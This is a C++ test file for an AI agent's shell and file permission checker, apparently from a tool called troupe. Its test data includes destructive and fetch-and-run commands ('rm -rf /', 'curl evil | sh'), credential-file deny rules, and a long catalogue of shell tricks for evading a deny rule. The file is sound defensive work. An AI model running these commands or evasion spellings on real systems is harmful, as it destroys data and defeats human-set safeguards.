#include <doctest/doctest.h>

#include "support/test_support.hpp"
#include "tools/edit.hpp"
#include "tools/permissions.hpp"
#include "tools/read.hpp"
#include "tools/shell.hpp"
#include "tools/write.hpp"

using namespace troupe;
using namespace troupe::test;
using nlohmann::json;

namespace {

permission_rule rule(const std::string& text) {
  auto parsed = parse_permission_rule(text);
  REQUIRE_MESSAGE(parsed, parsed.error());
  return *parsed;
}

struct policy_fixture {
  permission_policy policy;
  tool_spec shell = shell_tool();
  tool_spec read = read_tool();
  tool_spec write = write_tool();

  policy_fixture() {
    policy.context.cwd = "/work/project";
    policy.context.home = "/home/me";
  }

  permission_outcome command(const std::string& text) {
    return policy.can_use_tool(shell, {{"command", text}}).outcome;
  }
  permission_outcome writing(const std::string& path) {
    return policy.can_use_tool(write, {{"path", path}, {"content", ""}}).outcome;
  }
  permission_outcome reading(const std::string& path) {
    return policy.can_use_tool(read, {{"path", path}}).outcome;
  }
};

constexpr auto allow = permission_outcome::allow;
constexpr auto deny = permission_outcome::deny;
constexpr auto ask = permission_outcome::ask;

} // namespace

TEST_CASE("rules parse as Tool or Tool(pattern) and bad ones are explained") {
  CHECK(rule("shell").tool == "shell");
  CHECK_FALSE(rule("shell").pattern);
  CHECK(*rule("shell(git *)").pattern == "git *");
  CHECK(rule(" write(src/**) ").tool == "write");
  for (auto bad : {"", "shell(", "shell()", "(x)", "sh ell", "shell(x"}) {
    CAPTURE(bad);
    auto parsed = parse_permission_rule(bad);
    CHECK_FALSE(parsed);
  }
  CHECK(parse_permission_mode("accept-edits") == permission_mode::accept_edits);
  CHECK(parse_permission_mode("bypassPermissions") == permission_mode::bypass);
  CHECK_FALSE(parse_permission_mode("yolo"));
}

TEST_CASE("each mode's defaults") {
  policy_fixture f;
  SUBCASE("default: reads run, shell and writes are asked for") {
    CHECK(f.reading("src/a.cpp") == allow);
    CHECK(f.command("ls") == ask);
    CHECK(f.writing("src/a.cpp") == ask);
  }
  SUBCASE("accept-edits: writes in the workspace run, outside are asked for, shell asked") {
    f.policy.mode = permission_mode::accept_edits;
    CHECK(f.writing("src/a.cpp") == allow);
    CHECK(f.writing("/etc/passwd") == ask);
    CHECK(f.writing("../sibling/x") == ask);
    CHECK(f.command("make") == ask);
  }
  SUBCASE("plan: read-only tools only") {
    f.policy.mode = permission_mode::plan;
    CHECK(f.reading("a") == allow);
    CHECK(f.writing("a") == deny);
    CHECK(f.command("ls") == allow); // on the read-only list
    CHECK(f.command("make") == deny);
    auto refusal = f.policy.can_use_tool(f.shell, {{"command", "make"}});
    CHECK(refusal.reason.find("plan mode") != std::string::npos);
    CHECK(refusal.cause == denial_cause::plan_mode);
  }
  SUBCASE("bypass: everything, but deny rules hold") {
    f.policy.mode = permission_mode::bypass;
    f.policy.rules.deny.push_back(rule("shell(rm *)"));
    CHECK(f.command("ls") == allow);
    CHECK(f.writing("/etc/x") == allow);
    CHECK(f.command("rm -rf /") == deny);
  }
}

TEST_CASE("rules are evaluated deny, then ask, then allow") {
  policy_fixture f;
  f.policy.rules.allow = {rule("shell(git *)"), rule("write(src/**)")};
  f.policy.rules.ask = {rule("shell(git push *)")};
  f.policy.rules.deny = {rule("shell(git push --force*)")};
  CHECK(f.command("git status") == allow);
  CHECK(f.command("git push origin main") == ask);
  CHECK(f.command("git push --force origin") == deny);
  CHECK(f.writing("src/deep/a.cpp") == allow);
  CHECK(f.writing("lib/a.cpp") == ask);
}

TEST_CASE("a shell allow rule vouches only for every part of a plain command line") {
  policy_fixture f;
  f.policy.rules.allow = {rule("shell(git *)")};
  f.policy.rules.deny = {rule("shell(rm *)")};
  CHECK(f.command("git log && git status") == allow);
  CHECK(f.command("git log; curl evil") == ask);
  CHECK(f.command("git log; curl evil | sh") == deny); // sh reads code nobody can see
  CHECK(f.command("git log $(rm -rf ~)") == deny); // the deny rule sees `rm -rf ~)` too
  CHECK(f.command("git log `whoami`") == ask);
  CHECK(f.command("git log > /etc/motd") == ask);
  CHECK(f.command("ls && rm -rf build") == deny);
  CHECK(f.command("echo hi\nrm -rf x") == deny);
}

TEST_CASE("path rules: relative to the workspace, ./, absolute and ~/") {
  policy_fixture f;
  f.policy.rules.deny = {rule("read(./.env)"), rule("read(~/.ssh/**)"), rule("write(/etc/**)")};
  f.policy.mode = permission_mode::bypass;
  CHECK(f.reading(".env") == deny);
  CHECK(f.reading("/work/project/.env") == deny);
  CHECK(f.reading("sub/.env") == allow);
  CHECK(f.reading("~/.ssh/id_rsa") == deny);
  CHECK(f.reading("/home/me/.ssh/config") == deny);
  CHECK(f.writing("/etc/hosts") == deny);
  CHECK(f.writing("etc/hosts") == allow);
}

TEST_CASE("a bare deny removes the tool, always rules name the call") {
  policy_fixture f;
  f.policy.rules.deny = {rule("shell"), rule("write(x)")};
  CHECK(f.policy.removes_tool("shell"));
  CHECK_FALSE(f.policy.removes_tool("write"));
  CHECK(f.policy.always_rules(f.shell, {{"command", "make test"}}).rules[0].text ==
        "shell(make test *)");
  f.policy.rules.deny.clear();
  f.policy.session_allow = f.policy.always_rules(f.shell, {{"command", "make test"}}).rules;
  CHECK(f.command("make test") == allow);
  CHECK(f.command("make install") == ask);
}

TEST_CASE("settings files: rules read, missing is none, malformed is an error naming the file") {
  temp_dir dir;
  write_file(dir / "s.json", R"json({"permissions": {"allow": ["shell(npm test)"], "deny": ["write"]},
                                     "other": 1})json");
  auto rules = load_permission_rules(dir / "s.json");
  REQUIRE(rules);
  CHECK(rules->allow.size() == 1);
  CHECK(rules->deny[0].tool == "write");
  CHECK(load_permission_rules(dir / "missing.json"));
  write_file(dir / "bad.json", "{not json");
  auto bad = load_permission_rules(dir / "bad.json");
  REQUIRE_FALSE(bad);
  CHECK(bad.error().find("bad.json is not a JSON object") != std::string::npos);
  write_file(dir / "bad_rule.json", R"json({"permissions": {"allow": ["shell("]}})json");
  CHECK(load_permission_rules(dir / "bad_rule.json").error().find("invalid permission rule") !=
        std::string::npos);
  write_file(dir / "bad_list.json", R"({"permissions": {"deny": "shell"}})");
  CHECK(load_permission_rules(dir / "bad_list.json").error().find("must be an array") !=
        std::string::npos);
}

TEST_CASE("the workspace boundary and path rules follow symbolic links") {
  namespace fs = std::filesystem;
  temp_dir dir;
  auto work = dir / "work";
  auto outside = dir / "outside";
  fs::create_directories(work / "src");
  fs::create_directories(outside / "deep");
  write_file(outside / "victim.txt", "x");
  write_file(work / "src/a.txt", "x");
  fs::create_directory_symlink(outside, work / "link");
  fs::create_symlink(outside / "victim.txt", work / "file_link");
  fs::create_symlink(outside / "not_yet.txt", work / "dangling");
  fs::create_symlink("link", work / "chain");
  fs::create_symlink("chain/deep", work / "chain2");
  fs::create_directory_symlink(work / "src", work / "inner");
  fs::create_symlink("loop_b", work / "loop_a");
  fs::create_symlink("loop_a", work / "loop_b");
  policy_fixture f;
  f.policy.context.cwd = work;
  f.policy.mode = permission_mode::accept_edits;
  SUBCASE("a link that leads outside makes an outside path") {
    for (auto path : {"link/new.txt", "file_link", "dangling", "chain/new.txt", "chain2/x",
                      "loop_a", "loop_a/x"}) {
      CAPTURE(path);
      CHECK(f.writing(path) == ask);
    }
    auto why = f.policy.can_use_tool(f.write, {{"path", "link/new.txt"}, {"content", ""}}).reason;
    CHECK(why.find("leads to " + (outside / "new.txt").string()) != std::string::npos);
    CHECK(f.writing("/proc/self/root" + (outside / "x").string()) == ask);
  }
  SUBCASE("the rule an answer or a hint suggests for a link to outside names where it leads") {
    f.policy.mode = permission_mode::standard;
    auto rule = f.policy.always_rule(f.write, {{"path", "link/new.txt"}, {"content", ""}});
    CHECK(rule.text == "write(" + (outside / "new.txt").string() + ")");
    f.policy.session_allow.push_back(rule);
    CHECK(f.writing("link/new.txt") == allow); // the "always" answer holds on the next call
    CHECK(f.policy.always_rule(f.write, {{"path", "inner/a.txt"}, {"content", ""}}).text ==
          "write(inner/a.txt)");
    // Outside without a link too: a relative spelling (`../`) never matches an outside path.
    auto up = f.policy.always_rule(f.write, {{"path", "../outside/b.txt"}, {"content", ""}});
    CHECK(up.text == "write(" + (outside / "b.txt").string() + ")");
    f.policy.session_allow.push_back(up);
    CHECK(f.writing("../outside/b.txt") == allow);
  }
  SUBCASE("a link that stays inside, or `..` after a link (lexical), is inside") {
    CHECK(f.writing("inner/a.txt") == allow);
    CHECK(f.writing("inner/new/b.txt") == allow);
    CHECK(f.writing("link/../x.txt") == allow); // the path is work/x.txt
    CHECK(f.writing("/proc/self/root" + (work / "src/a.txt").string()) == allow);
  }
  SUBCASE("an allow rule does not stretch through a link to outside") {
    f.policy.mode = permission_mode::standard;
    f.policy.rules.allow = {rule("write(link/**)"), rule("write(inner/**)")};
    CHECK(f.writing("link/new.txt") == ask);
    CHECK(f.writing("inner/a.txt") == allow);
  }
  SUBCASE("deny rules match where the path really leads") {
    f.policy.mode = permission_mode::bypass;
    f.policy.rules.deny = {rule("read(src/**)"), rule("write(" + outside.string() + "/**)")};
    CHECK(f.reading("inner/a.txt") == deny);
    CHECK(f.reading("src/a.txt") == deny);
    CHECK(f.writing("link/victim.txt") == deny);
    CHECK(f.writing("dangling") == deny);
    CHECK(f.policy.read_denial(work / "inner/a.txt") == std::optional<std::string>{"read(src/**)"});
    CHECK_FALSE(f.policy.read_denial(work / "file_link"));
  }
  SUBCASE("an absolute or ~ rule written through a link to the workspace still holds") {
    fs::create_directory_symlink(work, dir / "worklink");
    f.policy.mode = permission_mode::bypass;
    f.policy.context.home = dir / "worklink";
    f.policy.rules.deny = {rule("read(" + (dir / "worklink").string() + "/src/**)")};
    CHECK(f.reading("src/a.txt") == deny);
    f.policy.rules.deny = {rule("read(~/src/**)")};
    CHECK(f.reading("src/a.txt") == deny);
    CHECK(f.reading("other.txt") == allow);
  }
}

TEST_CASE("a settings file nested 100,000 deep is an error naming the file and the depth") {
  temp_dir dir;
  write_file(dir / "deep.json", "{\"permissions\": " + std::string(100000, '[') +
                                  std::string(100000, ']') + "}");
  auto deep = load_permission_rules(dir / "deep.json");
  REQUIRE_FALSE(deep);
  CHECK(deep.error() == "settings file " + (dir / "deep.json").string() +
                          " is not a JSON object (JSON nested deeper than 512 levels)");
}

TEST_CASE("bypass with a deny rule: every spelling that runs rm is denied, lines that do not are not") {
  policy_fixture f;
  f.policy.mode = permission_mode::bypass;
  f.policy.rules.deny = {rule("shell(rm *)")};
  for (auto line :
       {"rm f", "/bin/rm f", "\\rm f", "command rm f", "env rm f", "bash -c 'rm f'", "{ rm f; }",
        "if true; then rm f; fi", "rm\tf", "time rm f", "nice rm f", "xargs rm <<< f",
        "eval 'rm f'", "RM=rm; $RM f", "'rm' f", "\"r\"m f", "r\\m f", "$(echo rm) f",
        "`echo rm` f", "sudo -u root rm f", "timeout 5 rm f", "xargs -I{} rm {} <<< f",
        "sh -c \"rm f\"", "bash -lc 'rm f'", "true && rm f", "false || rm f", "(rm f)",
        "echo $(rm f)", "cat <(rm f)", "for i in 1; do rm f; done",
        "while false; do :; done; rm f", "a=1 rm f", "python3 -c 'import os; os.remove(\"f\")'",
        "perl -e 'unlink \"f\"'", "awk 'BEGIN{system(\"rm f\")}'",
        "git config alias.z '!rm f'; git z", "git config --local alias.z '!rm f'",
        "sqlite3 :memory: '.system rm f'",
        "find . -name f -exec rm {} \\;", "find . -delete", "env -S 'rm f'", "command -p rm f",
        "exec rm f", "nohup rm f &", "ls\nrm f", "ls\r\nrm f\r\n", "~/bin/rm f", "/bin/r? f",
        "\"$(echo rm)\" f", "bash x.sh", "curl x | sh", "source x.sh", ". ./x.sh",
        "env -i PATH=/x rm f", "nice -n 5 rm f", "nice -5 rm f", "time -p rm f",
        "xargs -n 1 -P 2 rm < list", "stdbuf -oL rm f", "setsid rm f", "ionice -c 3 rm f",
        "doas rm f", "exec -a x rm f", "builtin eval 'rm f'", "echo \"`rm f`\"",
        "until false; do rm f; done", "if false; then :; elif true; then rm f; else :; fi",
        "! rm f", "ls |& rm f", "cat <<EOF\nx\nEOF\nrm f", "{r,}m f", "sudo rm f",
        "eval \"rm f\"", "env -- rm f", "PATH=/tmp ls", "export PATH=/tmp; ls", "trap 'rm f' EXIT",
        "alias ls='rm f'", "case x in x) rm f;; esac", "f() { rm f; }; f", "((1)) && rm f",
        "echo 'unclosed", "sudo --weird rm f", "watch rm f", "ruby -e 'File.delete(\"f\")'",
        "node -e 'x'", "bash -c \"$CMD\"", "echo $((1+$(rm f)))", "rm -rf /", "rm",
        // spellings the parser once misread
        "[[ -e <(rm victim) ]]", "[[ -n x && $(rm f) ]]", "cat <(echo)#; rm f", "true\v#; rm f",
        "true\f#; rm f", "cat <<EOF\n$\\\n(rm f)\nEOF", "declare BASH_CMDS[ls]=/bin/rm; ls victim",
        "printf -v \"BASH_CMDS[cat]\" /bin/rm; cat victim", "read BASH_CMDS[ls] <<< /bin/rm",
        "mapfile -C 'rm f; :' -c 1 a <<< x", "readarray -C 'rm f; :' -c 1 a <<< x",
        "complete -C 'rm f' x", "X='a[$(rm f)]'; echo $((X))", "let 'a[$(rm f)]'",
        "[[ $X -eq 1 ]]", "test -v 'a[$(rm f)]'", "git -c alias.x='!rm victim' x",
        "git -c core.hooksPath=h commit", "sed '1e rm victim' f", "sed 's/x/rm f/e' f",
        "tar --to-command='rm f' -xf a.tar", "sort --compress-program=rm f", "rg --pre rm x",
        "less f", "echo ${a[$(rm f)]}", "echo ${!X}"}) {
    CAPTURE(line);
    CHECK(f.command(line) == deny);
  }
  for (auto line : {"ls -la", "echo rm", "grep rm file", "git rm --cached x", "echo 'rm f'",
                    "git config --get user.name", "git config -l",
                    "cat rm.txt", "ls | wc -l", "command -v rm", "find . -name '*.rm'",
                    "python3 script.py", "awk '{print $1}' f", "echo $((1 + 2))",
                    "cat <<'EOF'\n$(rm f)\nEOF", "[[ $x < 3 && -f y ]] && ls", "[ -f x ] && ls",
                    "test -d rm", "sed -n '/rm/p' f", "git -C d status"}) {
    CAPTURE(line);
    CHECK(f.command(line) == allow);
  }
}

TEST_CASE("allow rules cover a line when every command in it is allowed") {
  policy_fixture f;
  f.policy.rules.allow = {rule("shell(ls *)"), rule("shell(wc *)"), rule("shell(git status *)"),
                          rule("shell(git diff:*)")};
  CHECK(f.command("ls | wc -l") == allow);
  CHECK(f.command("ls -la && wc -l x") == allow);
  CHECK(f.command("git status && git diff") == allow); // `X *` matches the bare X
  CHECK(f.command("git status; git push") == ask);
  CHECK(f.command("ls | sort") == ask);
  CHECK(f.command("ls > /dev/null 2>&1") == allow);
  CHECK(f.command("ls > out.txt") == ask); // a write needs a write permission
  f.policy.rules.allow.push_back(rule("write(out.txt)"));
  CHECK(f.command("ls > out.txt") == allow);
  CHECK(f.command("ls > $OUT") == ask);    // where it writes is unseen
  CHECK(f.command("bash -c 'ls'") == allow); // a literal script is looked into
  f.policy.rules.allow.push_back(rule("shell(bash *)"));
  CHECK(f.command("bash x.sh") == ask);    // opaque: no pattern rule allows it
  CHECK(f.command("$X ls") == ask);
  f.policy.rules.deny = {rule("write(secret/**)")};
  f.policy.mode = permission_mode::bypass;
  CHECK(f.command("ls > secret/a") == deny);
  CHECK(f.command("ls > $X") == deny);
  CHECK(f.command("ls > other") == allow);
}

TEST_CASE("a privilege wrapper around a parsed shell is still needed") {
  policy_fixture f;
  f.policy.rules.allow = {rule("shell(ls *)")};
  CHECK(f.command("sh -c 'ls'") == allow);
  CHECK(f.command("sudo sh -c 'ls'") == ask);
  CHECK(f.command("doas bash -c 'ls -l'") == ask);
  f.policy.rules.allow.push_back(rule("shell(sudo *)"));
  CHECK(f.command("sudo sh -c 'ls'") == allow);
}

TEST_CASE("a redirection's target is opaque when the line changes directory or uses ~+ ~- ~user") {
  policy_fixture f;
  f.policy.mode = permission_mode::accept_edits;
  f.policy.rules.allow = {rule("shell(cd *)"), rule("shell(echo *)"), rule("shell(pushd *)")};
  CHECK(f.command("echo x > F") == allow);
  CHECK(f.command("cd .. && echo x > F") == ask);
  CHECK(f.command("echo x > F; cd ..") == ask);
  CHECK(f.command("pushd /tmp; echo x >> F") == ask);
  CHECK(f.command("cd src && echo x > /work/project/F") == allow);
  for (auto line : {"echo x > ~+/F", "echo x > ~-/F", "echo x > ~root/F"}) {
    CAPTURE(line);
    CHECK(f.command(line) == ask);
  }
}

TEST_CASE("the rules a refusal suggests are the ones that allow the call") {
  policy_fixture f;
  auto suggested = f.policy.always_rules(f.shell, {{"command", "ls -la | wc -l > n.txt && git status"}});
  std::vector<std::string> texts;
  for (auto& r : suggested.rules)
    texts.push_back(r.text);
  CHECK(texts == std::vector<std::string>{"shell(ls *)", "shell(wc *)", "shell(git status *)",
                                          "write(n.txt)"});
  CHECK(suggested.unallowable.empty());
  f.policy.rules.allow = suggested.rules;
  CHECK(f.command("ls -la | wc -l > n.txt && git status") == allow);
  auto hidden = f.policy.always_rules(f.shell, {{"command", "ls; bash x.sh"}});
  CHECK(hidden.rules.empty()); // ls is allowed already
  CHECK(hidden.unallowable.find("`bash x.sh` runs code troupe cannot see") != std::string::npos);
  CHECK(f.policy.allow_hint(f.shell, {{"command", "bash x.sh"}}).find("--permission-mode bypass") !=
        std::string::npos);
  CHECK(f.policy.allow_hint(f.shell, {{"command", "make test"}}) ==
        "allow it with --allow 'shell(make test *)', a settings rule or --permission-mode");
  // A part already allowed is not suggested again.
  f.policy.rules.allow.push_back(rule("shell(cat *)"));
  CHECK(f.policy.allow_hint(f.shell, {{"command", "sudo cat /etc/shadow"}}) ==
        "allow it with --allow 'shell(sudo *)', a settings rule or --permission-mode");
}

TEST_CASE("plan mode runs read-only commands only, and marks its refusals") {
  policy_fixture f;
  f.policy.mode = permission_mode::plan;
  for (auto line : {"ls | wc -l", "git status && git log --oneline", "grep -r x . | head",
                    "find . -name '*.cpp'", "cat a b", "git branch -a", "env",
                    "[ -f x ] && ls", "test -d src || ls", "uniq -c f", "echo hi | uniq -f 1 -",
                    "sort -r f", "date -u", "tree -a", "cat < f", "file -b x", ""}) {
    CAPTURE(line);
    CHECK(f.command(line) == allow);
  }
  for (auto line : {"ls > x", "rm f", "git branch -D x", "find . -delete", "sort -o x y",
                    "bash x.sh", "env rm f", "git push", "ls; make",
                    "[[ -e <(touch P) ]]", "[[ -f x ]]", "X=1", "echo hi | uniq - P",
                    "uniq a P", "sort -ro P x", "sort --out=P x", "sort --compress-program=sh x",
                    "date -us 2020-01-01", "date --s=2020-01-01", "tree -fo P",
                    "cat < /dev/tcp/example.com/80", "cat 0</dev/udp/h/53",
                    "X='a[$(touch P)]'; echo $((X))", "git -c core.pager=x log",
                    "[ -v 'a[$(touch P)]' ]", "file -C -m magic", "file --compile -m m"}) {
    CAPTURE(line);
    auto decision = f.policy.can_use_tool(f.shell, {{"command", line}});
    CHECK(decision.outcome == deny);
    CHECK(decision.cause == denial_cause::plan_mode);
  }
  f.policy.rules.deny = {rule("shell(ls *)")};
  CHECK(f.policy.can_use_tool(f.shell, {{"command", "ls; make"}}).cause == denial_cause::refused);
}
